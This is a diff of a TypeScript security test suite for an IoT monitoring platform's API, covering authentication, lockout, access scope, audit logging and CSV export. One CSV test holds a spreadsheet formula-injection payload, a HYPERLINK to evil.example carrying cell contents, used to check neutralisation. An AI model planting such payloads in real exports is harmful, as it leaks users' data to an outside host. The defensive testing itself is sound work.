@@ -36,8 +36,13 @@ afterAll(async () => {
 async function api(
   method: string,
   path: string,
-  opts: { token?: string | null; body?: unknown; ip?: string; headers?: Record<string, string> } = {},
-): Promise<{ status: number; body: any; headers: Headers }> {
+  opts: {
+    token?: string | null;
+    body?: unknown;
+    ip?: string;
+    headers?: Record<string, string>;
+  } = {},
+): Promise<Answer> {
   const headers: Record<string, string> = { ...opts.headers };
   if (opts.token) headers.authorization = `Bearer ${opts.token}`;
   if (opts.ip) headers['x-forwarded-for'] = opts.ip;
@@ -45,29 +50,61 @@ async function api(
   const res = await fetch(`${platform.httpUrl}${path}`, {
     method,
     headers,
-    ...(opts.body !== undefined ? { body: typeof opts.body === 'string' ? opts.body : JSON.stringify(opts.body) } : {}),
+    ...(opts.body !== undefined
+      ? { body: typeof opts.body === 'string' ? opts.body : JSON.stringify(opts.body) }
+      : {}),
   });
   const text = await res.text();
-  let body: unknown = text;
+  let body: unknown = null;
   try {
     body = JSON.parse(text);
   } catch {
-    // CSV and other text bodies stay strings
+    // CSV and other text bodies: read `text`
   }
-  return { status: res.status, body, headers: res.headers };
+  const token = (body as { token?: unknown } | null)?.token;
+  return {
+    status: res.status,
+    body,
+    text,
+    headers: res.headers,
+    token: typeof token === 'string' ? token : '',
+  };
 }
 
-async function auditRows(where: string, params: unknown[]): Promise<{ action: string; actor: string; unit_code: string | null; detail: any }[]> {
-  const { rows } = await platform.ctx.pool.query<{ action: string; actor: string; unit_code: string | null; detail: any }>(
+interface Answer {
+  status: number;
+  body: unknown;
+  text: string;
+  headers: Headers;
+  /** `token` of the JSON body when there is one (logins, issued display tokens). */
+  token: string;
+}
+
+interface AuditRow {
+  action: string;
+  actor: string;
+  unit_code: string | null;
+  detail: Record<string, unknown>;
+}
+
+async function auditRows(where: string, params: unknown[]): Promise<AuditRow[]> {
+  const { rows } = await platform.ctx.pool.query<AuditRow>(
     `SELECT action, actor, unit_code, detail FROM audit_log WHERE ${where} ORDER BY id`,
     params,
   );
   return rows;
 }
 
-async function createUser(role: string, units: string[], password = 'correct horse battery'): Promise<{ id: string; username: string; password: string }> {
+async function createUser(
+  role: string,
+  units: string[],
+  password = 'correct horse battery',
+): Promise<{ id: string; username: string; password: string }> {
   const username = `u${++seq}-${randomBytes(2).toString('hex')}`;
-  const r = await api('POST', '/api/v1/users', { token: platform.adminToken, body: { username, password, role, units, displayName: `Người dùng ${seq}` } });
+  const r = await api('POST', '/api/v1/users', {
+    token: platform.adminToken,
+    body: { username, password, role, units, displayName: `Người dùng ${seq}` },
+  });
   expect(r.status, JSON.stringify(r.body)).toBe(201);
   return { id: (r.body as { id: string }).id, username, password };
 }
@@ -81,24 +118,33 @@ describe('login, sessions and lockout', () => {
     const u = await createUser('ward_leader', [HOME]);
     const ok = await login(u.username, u.password);
     expect(ok.status).toBe(200);
-    expect(ok.body).toMatchObject({ user: { username: u.username, role: 'ward_leader', units: [HOME] } });
-    expect(ok.body.token).toMatch(/^iocs_/);
-    const ttl = new Date(ok.body.expiresAt as string).getTime() - Date.now();
+    expect(ok.body).toMatchObject({
+      user: { username: u.username, role: 'ward_leader', units: [HOME] },
+    });
+    expect(ok.token).toMatch(/^iocs_/);
+    const ttl = new Date((ok.body as { expiresAt: string }).expiresAt).getTime() - Date.now();
     expect(ttl).toBeGreaterThan(11 * 3_600_000);
     expect(ttl).toBeLessThanOrEqual(12 * 3_600_000);
     expect(ok.headers.get('cache-control')).toBe('no-store');
 
-    const me = await api('GET', '/api/v1/auth/me', { token: ok.body.token });
-    expect(me.body).toMatchObject({ kind: 'user', username: u.username, role: 'ward_leader', units: [HOME] });
+    const me = await api('GET', '/api/v1/auth/me', { token: ok.token });
+    expect(me.body).toMatchObject({
+      kind: 'user',
+      username: u.username,
+      role: 'ward_leader',
+      units: [HOME],
+    });
 
     const bad = await login(u.username, 'wrong password!!');
     expect(bad).toMatchObject({ status: 401, body: { error: { code: 'AUTH_BAD_CREDENTIALS' } } });
     const rows = await auditRows('actor = $1', [u.username]);
-    expect(rows.map((r) => r.action)).toEqual(expect.arrayContaining(['auth.login', 'auth.login_failed']));
+    expect(rows.map((r) => r.action)).toEqual(
+      expect.arrayContaining(['auth.login', 'auth.login_failed']),
+    );
     const everything = JSON.stringify(await auditRows('true', []));
     expect(everything).not.toContain(u.password);
     expect(everything).not.toContain('wrong password!!');
-    expect(everything).not.toContain(ok.body.token);
+    expect(everything).not.toContain(ok.token);
   });
 
   it('answers an unknown username exactly like a wrong password', async () => {
@@ -108,12 +154,17 @@ describe('login, sessions and lockout', () => {
 
   it('locks a username after LOGIN_MAX_ATTEMPTS failures, even for the right password and from elsewhere', async () => {
     const u = await createUser('province_leader', ['48']);
-    for (let i = 0; i < 3; i++) expect((await login(u.username, `guess-number-${i}`)).status).toBe(401);
+    for (let i = 0; i < 3; i++)
+      expect((await login(u.username, `guess-number-${i}`)).status).toBe(401);
     const locked = await login(u.username, u.password);
     expect(locked).toMatchObject({ status: 429, body: { error: { code: 'AUTH_LOCKED' } } });
     expect(Number(locked.headers.get('retry-after'))).toBeGreaterThan(0);
-    expect((await auditRows("action = 'auth.lockout' AND actor = $1", [u.username])).length).toBe(1);
-    expect((await auditRows("action = 'auth.login_locked' AND actor = $1", [u.username])).length).toBe(1);
+    expect((await auditRows("action = 'auth.lockout' AND actor = $1", [u.username])).length).toBe(
+      1,
+    );
+    expect(
+      (await auditRows("action = 'auth.login_locked' AND actor = $1", [u.username])).length,
+    ).toBe(1);
     // Another account is not affected.
     const other = await createUser('province_leader', ['48']);
     expect((await login(other.username, other.password)).status).toBe(200);
@@ -121,7 +172,8 @@ describe('login, sessions and lockout', () => {
 
   it('locks a client address that tries many usernames', async () => {
     const ip = freshIp();
-    for (let i = 0; i < 6; i++) expect((await login(`spray-${seq}-${i}`, 'Password123456', ip)).status).toBe(401);
+    for (let i = 0; i < 6; i++)
+      expect((await login(`spray-${seq}-${i}`, 'Password123456', ip)).status).toBe(401);
     const victim = await createUser('ward_operator', [HOME]);
     expect((await login(victim.username, victim.password, ip)).status).toBe(429);
     expect((await login(victim.username, victim.password, freshIp())).status).toBe(200);
@@ -130,16 +182,26 @@ describe('login, sessions and lockout', () => {
   it('ends a session at logout', async () => {
     const token = await platform.loginAs('ward_leader', [HOME]);
     expect((await api('POST', '/api/v1/auth/logout', { token })).status).toBe(204);
-    expect(await api('GET', '/api/v1/auth/me', { token })).toMatchObject({ status: 401, body: { error: { code: 'AUTH_INVALID_TOKEN' } } });
+    expect(await api('GET', '/api/v1/auth/me', { token })).toMatchObject({
+      status: 401,
+      body: { error: { code: 'AUTH_INVALID_TOKEN' } },
+    });
   });
 
   it('rejects unknown fields and over-deep JSON', async () => {
-    expect(await api('POST', '/api/v1/auth/login', { body: { username: 'a', password: 'b', role: 'admin' } })).toMatchObject({
+    expect(
+      await api('POST', '/api/v1/auth/login', {
+        body: { username: 'a', password: 'b', role: 'admin' },
+      }),
+    ).toMatchObject({
       status: 400,
       body: { error: { code: 'INVALID_REQUEST' } },
     });
     const deep = '['.repeat(40) + ']'.repeat(40);
-    expect(await api('POST', '/api/v1/auth/login', { body: deep })).toMatchObject({ status: 400, body: { error: { code: 'JSON_TOO_DEEP' } } });
+    expect(await api('POST', '/api/v1/auth/login', { body: deep })).toMatchObject({
+      status: 400,
+      body: { error: { code: 'JSON_TOO_DEEP' } },
+    });
   });
 });
 
@@ -149,19 +211,24 @@ describe('unit scope: a ward leader of 20275 asking for 20314', () => {
   beforeAll(async () => {
     const u = await createUser('ward_leader', [HOME]);
     actor = u.username;
-    token = (await login(u.username, u.password)).body.token as string;
+    token = (await login(u.username, u.password)).token;
   });
 
   it('gets its own ward’s devices and readings', async () => {
     const r = await api('GET', `/api/v1/devices?unit=${HOME}`, { token });
     expect(r.status).toBe(200);
-    expect((r.body as { items: { unitCode: string }[] }).items.every((d) => d.unitCode === HOME)).toBe(true);
+    expect(
+      (r.body as { items: { unitCode: string }[] }).items.every((d) => d.unitCode === HOME),
+    ).toBe(true);
   });
 
   it('gets 403 FORBIDDEN_SCOPE and an audit row for 20314’s devices and readings', async () => {
     const r = await api('GET', `/api/v1/devices?unit=${FOREIGN}`, { token });
     expect(r).toMatchObject({ status: 403, body: { error: { code: 'FORBIDDEN_SCOPE' } } });
-    const rows = await auditRows("action = 'access.denied' AND actor = $1 AND unit_code = $2", [actor, FOREIGN]);
+    const rows = await auditRows("action = 'access.denied' AND actor = $1 AND unit_code = $2", [
+      actor,
+      FOREIGN,
+    ]);
     expect(rows[0]?.detail).toMatchObject({ code: 'FORBIDDEN_SCOPE', action: 'read' });
   });
 
@@ -173,16 +240,22 @@ describe('unit scope: a ward leader of 20275 asking for 20314', () => {
 
   it('is refused 20314’s WebSocket channels, with audit rows', async () => {
     const ws = await openWs(token);
-    ws.send({ type: 'subscribe', channels: [`unit:${HOME}`, `unit:${FOREIGN}`, `alerts:${FOREIGN}`] });
+    ws.send({
+      type: 'subscribe',
+      channels: [`unit:${HOME}`, `unit:${FOREIGN}`, `alerts:${FOREIGN}`],
+    });
     const sub = await ws.next((m) => m.type === 'subscribed');
     expect(sub).toEqual({ type: 'subscribed', channels: [`unit:${HOME}`] });
-    const refused = ws.messages.filter((m) => m.type === 'refused');
-    expect(refused.map((m) => m.type === 'refused' && [m.channel, m.code])).toEqual([
+    const refused = ws.messages.flatMap((m) => (m.type === 'refused' ? [[m.channel, m.code]] : []));
+    expect(refused).toEqual([
       [`unit:${FOREIGN}`, 'FORBIDDEN_SCOPE'],
       [`alerts:${FOREIGN}`, 'FORBIDDEN_SCOPE'],
     ]);
     ws.close();
-    const rows = await auditRows("action = 'access.denied' AND actor = $1 AND target_kind = 'ws_channel'", [actor]);
+    const rows = await auditRows(
+      "action = 'access.denied' AND actor = $1 AND target_kind = 'ws_channel'",
+      [actor],
+    );
     expect(rows.map((r) => r.unit_code)).toEqual([FOREIGN, FOREIGN]);
   });
 });
@@ -200,18 +273,30 @@ async function openWs(token: string | null): Promise<Ws> {
   if (token) url.searchParams.set('token', token);
   const ws = new WebSocket(url);
   const messages: WsServerMessage[] = [];
-  const closed = new Promise<number>((resolve) => ws.on('close', (code) => resolve(code)));
-  ws.on('message', (d: Buffer) => messages.push(JSON.parse(d.toString()) as WsServerMessage));
+  const closed = new Promise<number>((resolve) => {
+    ws.on('close', (code) => {
+      resolve(code);
+    });
+  });
+  ws.on('message', (d: Buffer) => {
+    messages.push(JSON.parse(d.toString()) as WsServerMessage);
+  });
   await new Promise<void>((resolve, reject) => {
-    ws.once('open', () => resolve());
+    ws.once('open', () => {
+      resolve();
+    });
     ws.once('error', reject);
   });
   return {
     messages,
     closed,
-    send: (m) => ws.send(JSON.stringify(m)),
+    send: (m) => {
+      ws.send(JSON.stringify(m));
+    },
     next: (pred) => waitFor(() => messages.find(pred), 5_000, 'a WebSocket message'),
-    close: () => ws.close(),
+    close: () => {
+      ws.close();
+    },
   };
 }
 
@@ -221,7 +306,10 @@ describe('WebSocket authentication', () => {
     const ws = await openWs(null);
     ws.send({ type: 'auth', token });
     ws.send({ type: 'subscribe', channels: [`unit:${HOME}`] });
-    expect(await ws.next((m) => m.type === 'subscribed')).toEqual({ type: 'subscribed', channels: [`unit:${HOME}`] });
+    expect(await ws.next((m) => m.type === 'subscribed')).toEqual({
+      type: 'subscribed',
+      channels: [`unit:${HOME}`],
+    });
     expect(ws.messages[0]).toMatchObject({ type: 'authenticated', kind: 'user', units: [HOME] });
     ws.close();
   });
@@ -230,7 +318,9 @@ describe('WebSocket authentication', () => {
     const ws = await openWs(null);
     ws.send({ type: 'subscribe', channels: [`unit:${HOME}`] });
     expect(await ws.closed).toBe(4401);
-    expect(ws.messages).toContainEqual(expect.objectContaining({ type: 'error', code: 'AUTH_REQUIRED' }));
+    expect(ws.messages).toContainEqual(
+      expect.objectContaining({ type: 'error', code: 'AUTH_REQUIRED' }),
+    );
   });
 
   it('closes an open connection once its session is revoked', async () => {
@@ -247,8 +337,13 @@ describe('WebSocket authentication', () => {
 describe('users administration', () => {
   it('is for administrators only', async () => {
     const token = await platform.loginAs('province_operator', ['48']);
-    expect(await api('GET', '/api/v1/users', { token })).toMatchObject({ status: 403, body: { error: { code: 'FORBIDDEN_ROLE' } } });
-    expect((await auditRows("action = 'access.denied' AND target_id = 'GET /api/v1/users'", [])).length).toBeGreaterThan(0);
+    expect(await api('GET', '/api/v1/users', { token })).toMatchObject({
+      status: 403,
+      body: { error: { code: 'FORBIDDEN_ROLE' } },
+    });
+    expect(
+      (await auditRows("action = 'access.denied' AND target_id = 'GET /api/v1/users'", [])).length,
+    ).toBeGreaterThan(0);
   });
 
   it('validates role and unit scope against the administrative units', async () => {
@@ -260,99 +355,180 @@ describe('users administration', () => {
       { role: 'admin', units: [HOME] },
     ];
     for (const b of bad) {
-      const r = await api('POST', '/api/v1/users', { token: platform.adminToken, body: { username: `bad-${++seq}`, password: 'long enough password', ...b } });
+      const r = await api('POST', '/api/v1/users', {
+        token: platform.adminToken,
+        body: { username: `bad-${++seq}`, password: 'long enough password', ...b },
+      });
       expect(r.status, JSON.stringify(b)).toBe(400);
     }
-    const weak = await api('POST', '/api/v1/users', { token: platform.adminToken, body: { username: `weak-${++seq}`, password: 'short', role: 'ward_leader', units: [HOME] } });
+    const weak = await api('POST', '/api/v1/users', {
+      token: platform.adminToken,
+      body: { username: `weak-${++seq}`, password: 'short', role: 'ward_leader', units: [HOME] },
+    });
     expect(weak).toMatchObject({ status: 400 });
   });
 
   it('audits role and scope changes with before and after, and applies them at once', async () => {
     const u = await createUser('ward_operator', [HOME]);
-    const token = (await login(u.username, u.password)).body.token as string;
+    const token = (await login(u.username, u.password)).token;
     expect((await api('GET', `/api/v1/devices?unit=${FOREIGN}`, { token })).status).toBe(403);
-    const r = await api('PATCH', `/api/v1/users/${u.id}`, { token: platform.adminToken, body: { role: 'province_operator', units: ['48'] } });
+    const r = await api('PATCH', `/api/v1/users/${u.id}`, {
+      token: platform.adminToken,
+      body: { role: 'province_operator', units: ['48'] },
+    });
     expect(r).toMatchObject({ status: 200, body: { role: 'province_operator', units: ['48'] } });
     expect((await api('GET', `/api/v1/devices?unit=${FOREIGN}`, { token })).status).toBe(200);
-    const [change] = await auditRows("action = 'user.role_change' AND detail->>'username' = $1", [u.username]);
-    expect(change?.detail).toMatchObject({ from: { role: 'ward_operator', units: [HOME] }, to: { role: 'province_operator', units: ['48'] } });
+    const [change] = await auditRows("action = 'user.role_change' AND detail->>'username' = $1", [
+      u.username,
+    ]);
+    expect(change?.detail).toMatchObject({
+      from: { role: 'ward_operator', units: [HOME] },
+      to: { role: 'province_operator', units: ['48'] },
+    });
   });
 
   it('disabling a user ends their sessions; a password reset too', async () => {
     const u = await createUser('ward_leader', [HOME]);
-    const t1 = (await login(u.username, u.password)).body.token as string;
-    expect((await api('PATCH', `/api/v1/users/${u.id}`, { token: platform.adminToken, body: { disabled: true } })).status).toBe(200);
+    const t1 = (await login(u.username, u.password)).token;
+    expect(
+      (
+        await api('PATCH', `/api/v1/users/${u.id}`, {
+          token: platform.adminToken,
+          body: { disabled: true },
+        })
+      ).status,
+    ).toBe(200);
     expect((await api('GET', '/api/v1/auth/me', { token: t1 })).status).toBe(401);
     expect((await login(u.username, u.password)).status).toBe(401);
-    await api('PATCH', `/api/v1/users/${u.id}`, { token: platform.adminToken, body: { disabled: false } });
-    const t2 = (await login(u.username, u.password)).body.token as string;
-    expect((await api('POST', `/api/v1/users/${u.id}/password`, { token: platform.adminToken, body: { password: 'a brand new passphrase' } })).status).toBe(204);
+    await api('PATCH', `/api/v1/users/${u.id}`, {
+      token: platform.adminToken,
+      body: { disabled: false },
+    });
+    const t2 = (await login(u.username, u.password)).token;
+    expect(
+      (
+        await api('POST', `/api/v1/users/${u.id}/password`, {
+          token: platform.adminToken,
+          body: { password: 'a brand new passphrase' },
+        })
+      ).status,
+    ).toBe(204);
     expect((await api('GET', '/api/v1/auth/me', { token: t2 })).status).toBe(401);
     expect((await login(u.username, 'a brand new passphrase')).status).toBe(200);
-    const actions = (await auditRows("target_kind = 'user' AND detail->>'username' = $1", [u.username])).map((r) => r.action);
-    expect(actions).toEqual(expect.arrayContaining(['user.create', 'user.disable', 'user.enable', 'user.password_reset']));
+    const actions = (
+      await auditRows("target_kind = 'user' AND detail->>'username' = $1", [u.username])
+    ).map((r) => r.action);
+    expect(actions).toEqual(
+      expect.arrayContaining(['user.create', 'user.disable', 'user.enable', 'user.password_reset']),
+    );
   });
 
   it('keeps the last administrator', async () => {
-    const admins = ((await api('GET', '/api/v1/users', { token: platform.adminToken })).body as { items: { id: string; role: string; disabled: boolean }[] }).items.filter(
-      (u) => u.role === 'admin' && !u.disabled,
-    );
+    const admins = (
+      (await api('GET', '/api/v1/users', { token: platform.adminToken })).body as {
+        items: { id: string; role: string; disabled: boolean }[];
+      }
+    ).items.filter((u) => u.role === 'admin' && !u.disabled);
     expect(admins).toHaveLength(1);
-    const r = await api('PATCH', `/api/v1/users/${admins[0]?.id ?? ''}`, { token: platform.adminToken, body: { disabled: true } });
+    const r = await api('PATCH', `/api/v1/users/${admins[0]?.id ?? ''}`, {
+      token: platform.adminToken,
+      body: { disabled: true },
+    });
     expect(r).toMatchObject({ status: 409, body: { error: { code: 'LAST_ADMIN' } } });
   });
 
   it('`ioc users add` takes the password from stdin (no prompt in CI)', async () => {
     const out: string[] = [];
-    const code = await runAuthCommand('users add', ['--username', 'Cli-Leader', '--role', 'ward_leader', '--units', HOME], platform.ctx.pool, {
-      print: (l) => out.push(l),
-      readStdin: () => Promise.resolve('piped passphrase 42\n'),
-    });
+    const code = await runAuthCommand(
+      'users add',
+      ['--username', 'Cli-Leader', '--role', 'ward_leader', '--units', HOME],
+      platform.ctx.pool,
+      {
+        print: (l) => out.push(l),
+        readStdin: () => Promise.resolve('piped passphrase 42\n'),
+      },
+    );
     expect(code).toBe(0);
     expect(out.join('\n')).toContain('cli-leader');
     expect((await login('cli-leader', 'piped passphrase 42')).status).toBe(200);
-    expect((await auditRows("action = 'user.create' AND detail->>'username' = 'cli-leader'", []))[0]?.actor).toMatch(/^cli:/);
+    expect(
+      (await auditRows("action = 'user.create' AND detail->>'username' = 'cli-leader'", []))[0]
+        ?.actor,
+    ).toMatch(/^cli:/);
   });
 });
 
 describe('display tokens', () => {
   it('are read-only, one unit, usable as ?token=, rotatable and revocable', async () => {
-    const issued = await api('POST', '/api/v1/display-tokens', { token: platform.adminToken, body: { name: 'Màn hình phường', unitCode: HOME } });
+    const issued = await api('POST', '/api/v1/display-tokens', {
+      token: platform.adminToken,
+      body: { name: 'Màn hình phường', unitCode: HOME },
+    });
     expect(issued.status).toBe(201);
-    const { token, displayToken, wallPath } = issued.body as { token: string; displayToken: { id: string }; wallPath: string };
+    const { token, displayToken, wallPath } = issued.body as {
+      token: string;
+      displayToken: { id: string };
+      wallPath: string;
+    };
     expect(wallPath).toBe(`/wall?unit=${HOME}&token=${token}`);
     expect((await api('GET', `/api/v1/devices?unit=${HOME}&token=${token}`)).status).toBe(200);
     expect((await api('GET', `/api/v1/devices?unit=${HOME}`, { token })).status).toBe(200);
     expect((await api('GET', `/api/v1/devices?unit=${FOREIGN}&token=${token}`)).status).toBe(403);
     expect((await api('GET', '/api/v1/users', { token })).status).toBe(403);
     // Shown once: the list never carries it.
-    expect(JSON.stringify((await api('GET', '/api/v1/display-tokens', { token: platform.adminToken })).body)).not.toContain(token);
+    expect(
+      JSON.stringify(
+        (await api('GET', '/api/v1/display-tokens', { token: platform.adminToken })).body,
+      ),
+    ).not.toContain(token);
 
-    const rotated = await api('POST', `/api/v1/display-tokens/${displayToken.id}/rotate`, { token: platform.adminToken });
+    const rotated = await api('POST', `/api/v1/display-tokens/${displayToken.id}/rotate`, {
+      token: platform.adminToken,
+    });
     const fresh = (rotated.body as { token: string }).token;
     expect(fresh).not.toBe(token);
     expect((await api('GET', `/api/v1/devices?unit=${HOME}&token=${token}`)).status).toBe(401);
     expect((await api('GET', `/api/v1/devices?unit=${HOME}&token=${fresh}`)).status).toBe(200);
 
-    expect((await api('DELETE', `/api/v1/display-tokens/${displayToken.id}`, { token: platform.adminToken })).status).toBe(204);
+    expect(
+      (
+        await api('DELETE', `/api/v1/display-tokens/${displayToken.id}`, {
+          token: platform.adminToken,
+        })
+      ).status,
+    ).toBe(204);
     expect((await api('GET', `/api/v1/devices?unit=${HOME}&token=${fresh}`)).status).toBe(401);
-    const actions = (await auditRows("target_kind = 'display_token' AND target_id = $1", [displayToken.id])).map((r) => r.action);
-    expect(actions).toEqual(['display_token.create', 'display_token.rotate', 'display_token.revoke']);
+    const actions = (
+      await auditRows("target_kind = 'display_token' AND target_id = $1", [displayToken.id])
+    ).map((r) => r.action);
+    expect(actions).toEqual([
+      'display_token.create',
+      'display_token.rotate',
+      'display_token.revoke',
+    ]);
   });
 });
 
 describe('audit trail', () => {
   it('is queryable by action, actor and period', async () => {
     const from = new Date(Date.now() - 60_000).toISOString();
-    const r = await api('GET', `/api/v1/audit?action=auth.*&from=${encodeURIComponent(from)}&limit=5`, { token: platform.adminToken });
+    const r = await api(
+      'GET',
+      `/api/v1/audit?action=auth.*&from=${encodeURIComponent(from)}&limit=5`,
+      { token: platform.adminToken },
+    );
     expect(r.status).toBe(200);
     const items = (r.body as { items: { action: string; at: string }[] }).items;
     expect(items.length).toBe(5);
     expect(items.every((i) => i.action.startsWith('auth.') && i.at >= from)).toBe(true);
     const next = (r.body as { next: number }).next;
-    const page2 = await api('GET', `/api/v1/audit?action=auth.*&before=${next}&limit=5`, { token: platform.adminToken });
+    const page2 = await api('GET', `/api/v1/audit?action=auth.*&before=${next}&limit=5`, {
+      token: platform.adminToken,
+    });
     expect((page2.body as { items: { id: number }[] }).items.every((i) => i.id < next)).toBe(true);
-    expect((await api('GET', '/api/v1/audit?bogus=1', { token: platform.adminToken })).status).toBe(400);
+    expect((await api('GET', '/api/v1/audit?bogus=1', { token: platform.adminToken })).status).toBe(
+      400,
+    );
   });
 
   it('exports CSV with formula injection neutralised, and audits the export', async () => {
@@ -361,26 +537,39 @@ describe('audit trail', () => {
     const username = `csv-${++seq}`;
     const r1 = await api('POST', '/api/v1/users', {
       token: platform.adminToken,
-      body: { username, password: 'long enough password', role: 'ward_leader', units: [HOME], displayName: evil },
+      body: {
+        username,
+        password: 'long enough password',
+        role: 'ward_leader',
+        units: [HOME],
+        displayName: evil,
+      },
     });
     expect(r1.status).toBe(201);
     expect((await login(username, 'long enough password')).status).toBe(200);
-    const csv = await api('GET', `/api/v1/audit.csv?action=auth.login&actor=${username}`, { token: platform.adminToken });
+    const csv = await api('GET', `/api/v1/audit.csv?action=auth.login&actor=${username}`, {
+      token: platform.adminToken,
+    });
     expect(csv.status).toBe(200);
     expect(csv.headers.get('content-type')).toContain('text/csv');
     expect(csv.headers.get('content-disposition')).toContain('attachment');
-    const text = (csv.body as string).replace(/^\uFEFF/, '');
+    const text = csv.text.replace(/^\uFEFF/, '');
     const lines = text.split('\r\n').filter((l) => l !== '');
-    expect(lines[0]).toBe('id,at,actor,actor_kind,actor_name,action,target_kind,target_id,unit_code,ip,detail');
+    expect(lines[0]).toBe(
+      'id,at,actor,actor_kind,actor_name,action,target_kind,target_id,unit_code,ip,detail',
+    );
     expect(lines).toHaveLength(2);
     expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
     // Every cell starts with a harmless character: nothing a spreadsheet would evaluate.
     for (const line of lines.slice(1)) {
-      for (const cell of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
+      for (const cell of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [])
+        expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
     }
     expect((await auditRows("action = 'audit.export'", [])).length).toBeGreaterThan(0);
     // Append-only: the database itself refuses edits.
-    await expect(platform.ctx.pool.query("UPDATE audit_log SET actor = 'x'")).rejects.toThrow(/append-only/);
+    await expect(platform.ctx.pool.query("UPDATE audit_log SET actor = 'x'")).rejects.toThrow(
+      /append-only/,
+    );
     await expect(platform.ctx.pool.query('DELETE FROM audit_log')).rejects.toThrow(/append-only/);
   });
 });
@@ -399,9 +588,19 @@ describe('machine credentials write only their own data', () => {
   });
 
   const stored = async (deviceId: string) =>
-    (await platform.ctx.pool.query<{ n: number }>('SELECT count(*)::int AS n FROM reading WHERE device_id = $1', [deviceId])).rows[0]?.n ?? 0;
+    (
+      await platform.ctx.pool.query<{ n: number }>(
+        'SELECT count(*)::int AS n FROM reading WHERE device_id = $1',
+        [deviceId],
+      )
+    ).rows[0]?.n ?? 0;
   const deadLetters = async (reason: string, deviceId: string) =>
-    (await platform.ctx.pool.query<{ n: number }>('SELECT count(*)::int AS n FROM dead_letter WHERE reason = $1 AND device_id = $2', [reason, deviceId])).rows[0]?.n ?? 0;
+    (
+      await platform.ctx.pool.query<{ n: number }>(
+        'SELECT count(*)::int AS n FROM dead_letter WHERE reason = $1 AND device_id = $2',
+        [reason, deviceId],
+      )
+    ).rows[0]?.n ?? 0;
 
   it('HTTP: a device token naming another device stores nothing and leaves a dead letter', async () => {
     const pack = [{ bn: `urn:dev:ops:${other}:`, n: 'pm25', v: 12 }];
@@ -413,9 +612,14 @@ describe('machine credentials write only their own data', () => {
   });
 
   it('HTTP: a gateway token for a device it does not front stores nothing and leaves a dead letter', async () => {
-    const r = await api('POST', '/api/v1/telemetry', { token: gwToken, body: { [other]: [{ values: { pm25: 13 } }] } });
+    const r = await api('POST', '/api/v1/telemetry', {
+      token: gwToken,
+      body: { [other]: [{ values: { pm25: 13 } }] },
+    });
     expect(r.status).toBe(400);
-    await waitFor(async () => ((await deadLetters('not_fronted_by_gateway', other)) > 0 ? true : undefined));
+    await waitFor(async () =>
+      (await deadLetters('not_fronted_by_gateway', other)) > 0 ? true : undefined,
+    );
     expect(await stored(other)).toBe(0);
   });
 
@@ -429,7 +633,14 @@ describe('machine credentials write only their own data', () => {
   });
 
   it('a person’s session token cannot ingest', async () => {
-    expect((await api('POST', '/api/v1/telemetry', { token: platform.adminToken, body: { values: { pm25: 1 } } })).status).toBe(401);
+    expect(
+      (
+        await api('POST', '/api/v1/telemetry', {
+          token: platform.adminToken,
+          body: { values: { pm25: 1 } },
+        })
+      ).status,
+    ).toBe(401);
   });
 
   it('rate-limits per credential with 429 and Retry-After', async () => {
@@ -437,7 +648,10 @@ describe('machine credentials write only their own data', () => {
     const statuses: number[] = [];
     let retryAfter: string | null = null;
     for (let i = 0; i < 8; i++) {
-      const r = await api('POST', '/api/v1/telemetry', { token: limited, body: { values: { pm25: 10 + i } } });
+      const r = await api('POST', '/api/v1/telemetry', {
+        token: limited,
+        body: { values: { pm25: 10 + i } },
+      });
       statuses.push(r.status);
       if (r.status === 429) retryAfter = r.headers.get('retry-after');
     }
@@ -445,7 +659,9 @@ describe('machine credentials write only their own data', () => {
     expect(statuses.slice(5)).toContain(429);
     expect(Number(retryAfter)).toBeGreaterThanOrEqual(1);
     // Another credential has its own bucket.
-    expect((await api('POST', '/api/v1/telemetry', { token, body: { values: { pm25: 5 } } })).status).toBe(202);
+    expect(
+      (await api('POST', '/api/v1/telemetry', { token, body: { values: { pm25: 5 } } })).status,
+    ).toBe(202);
   });
 });
 
@@ -465,7 +681,14 @@ describe('HTTP hardening', () => {
 
   it('allows CORS only for configured origins', async () => {
     const pre = (origin: string) =>
-      fetch(`${platform.httpUrl}/api/v1/devices`, { method: 'OPTIONS', headers: { origin, 'access-control-request-method': 'GET', 'access-control-request-headers': 'authorization' } });
+      fetch(`${platform.httpUrl}/api/v1/devices`, {
+        method: 'OPTIONS',
+        headers: {
+          origin,
+          'access-control-request-method': 'GET',
+          'access-control-request-headers': 'authorization',
+        },
+      });
     const ok = await pre(ORIGIN);
     expect(ok.status).toBe(204);
     expect(ok.headers.get('access-control-allow-origin')).toBe(ORIGIN);
@@ -479,7 +702,10 @@ describe('HTTP hardening', () => {
 
   it('serves /metrics to the scraper token or an administrator only', async () => {
     expect((await api('GET', '/metrics')).status).toBe(401);
-    expect((await api('GET', '/metrics', { token: await platform.loginAs('province_leader', ['48']) })).status).toBe(403);
+    expect(
+      (await api('GET', '/metrics', { token: await platform.loginAs('province_leader', ['48']) }))
+        .status,
+    ).toBe(403);
     expect((await api('GET', '/metrics', { token: METRICS_TOKEN })).status).toBe(200);
     expect((await api('GET', '/metrics', { token: platform.adminToken })).status).toBe(200);
   });
